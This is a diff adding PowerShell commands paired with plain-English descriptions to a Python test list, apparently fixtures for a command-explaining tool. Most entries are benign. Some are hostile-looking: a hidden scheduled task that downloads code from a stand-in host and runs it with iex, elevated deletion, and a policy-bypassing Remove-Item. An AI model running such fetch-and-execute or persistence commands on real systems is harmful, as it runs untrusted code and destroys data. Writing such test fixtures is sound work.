@@ -282,6 +282,26 @@ TOLD = [
         "`iex` runs the code that `DownloadString` downloads from `https://x.example/a`",
     ),
     ("Get-Content -Path logs\\a.log -Wait", "`Get-Content` follows `logs\\a.log`"),
+    (
+        "foreach ($p in Get-ChildItem .\\packages -Directory) { Push-Location $p.FullName; npm run build; Pop-Location }",
+        "`Push-Location` enters the folders in `.\\packages` in turn",
+    ),
+    (
+        "Start-Process -FilePath dotnet -ArgumentList 'run','--project','src\\Api' -NoNewWindow",
+        "`Start-Process` starts `dotnet run --project src\\Api`",
+    ),
+    ("Start-Process cmd '/c del x' -Verb RunAs", "`del` deletes `x`"),
+    ("Start-Process git -ArgumentList status", "`Start-Process` starts `git status`"),
+    (
+        "New-ScheduledTaskAction -Execute powershell -Argument '-w hidden -c \"iwr https://x.example/c | iex\"'",
+        "`New-ScheduledTaskAction` has a task run code: `iex` runs the code that `iwr` downloads from `https://x.example/c`",
+    ),
+    ("powershell -NoProfile -ExecutionPolicy Bypass -Command 'Remove-Item x'", "`Remove-Item` deletes `x`"),
+    ("powershell -NoExit -Command 'Get-Date'", "`powershell` runs `Get-Date`"),
+    (
+        "Get-AzResourceGroup -Name rg | Get-AzResource",
+        "`Get-AzResourceGroup` shows the Azure resource group `rg`",
+    ),
     ("Get-FileHash -Algorithm SHA256 a, b", "`Get-FileHash` shows the hash of `a` and `b`"),
     ("Test-Path -Path a", "`Test-Path` checks for `a`"),
     ("Select-String -Path src\\*.ts -Pattern TODO", "`Select-String` searches `src\\*.ts` for `TODO`"),
